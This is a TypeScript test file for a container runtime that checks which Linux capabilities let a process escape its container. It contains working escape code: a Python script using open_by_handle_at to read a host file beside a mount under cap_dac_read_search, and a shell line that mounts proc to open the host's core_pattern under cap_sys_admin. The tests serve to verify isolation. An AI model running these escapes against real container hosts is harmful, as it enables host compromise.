// Capabilities that lead out of a container do, where all its other walls but the filter are up; and they don't in a user
// namespace of its own.
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { TestContext } from 'node:test'
import { test } from 'node:test'

import type { Result, RunOptions } from '../../src/index.ts'
import { run } from '../../src/index.ts'
import { fileHandle } from './capability-scene.ts'
import { lacksProgram, lacksRoot } from './child.ts'

const lack = lacksRoot() ?? lacksProgram('python3')
const options = lack === undefined ? {} : { skip: lack }

/** In the host's user namespace and without a filter, with these capabilities alone. */
const bare = (...capAdd: readonly string[]): RunOptions => ({
  userns: 'host',
  seccomp: 'unconfined',
  capDrop: ['all'],
  capAdd,
})

/** The same in a user namespace of its own. */
const mapped = (...capAdd: readonly string[]): RunOptions => ({ ...bare(...capAdd), userns: 'auto' })

const EPERM = 1

test(
  'cap_dac_read_search: a file beside the one that is mounted in is read by its handle',
  options,
  async (t: TestContext) => {
    const directory = mkdtempSync(join(tmpdir(), 'tare-escape-'))
    t.after(() => rmSync(directory, { recursive: true }))
    const secret = join(directory, 'secret')
    writeFileSync(secret, 'secret of the host', { mode: 0o600 })
    mkdirSync(join(directory, 'inside'))
    const handle = fileHandle(secret)
    const script = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
handle = bytes.fromhex('${handle}')
fd = libc.open_by_handle_at(os.open('/data', os.O_RDONLY), ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY)
if fd < 0: sys.exit(ctypes.get_errno())
print(os.read(fd, 100).decode())
`
    const attack = (container: RunOptions): PromiseLike<Result> =>
      run(['python3', '-c', script], {
        ...container,
        mounts: [{ source: join(directory, 'inside'), target: '/data', readOnly: true }],
      })
    assert.equal((await attack(bare('dac_read_search'))).stdout, 'secret of the host\n')
    assert.equal((await attack(bare('dac_override', 'fowner', 'chown'))).exitCode, EPERM)
    assert.equal((await attack(mapped('all'))).exitCode, EPERM)
  },
)

test('cap_sys_admin: a proc of its own has the core_pattern of the host to be written', options, async () => {
  const script = 'mkdir /tmp/p && mount -t proc proc /tmp/p && exec 3>>/tmp/p/sys/kernel/core_pattern && echo open'
  const attack = (container: RunOptions): PromiseLike<Result> => run(['sh', '-c', script], container)
  assert.equal((await attack(bare('sys_admin'))).stdout, 'open\n')
  const without = await attack(bare('sys_ptrace', 'dac_override', 'net_admin'))
  assert.match(without.stderr, /mount: .*permission denied/)
  const inside = await attack(mapped('all'))
  // Parts of its own /proc are masked, so the kernel gives it no whole one (mount_namespaces(7)).
  assert.match(inside.stderr, /mount: .*permission denied/)
  for (const { stdout, exitCode } of [without, inside]) assert.deepEqual([stdout, exitCode !== 0], ['', true])
})
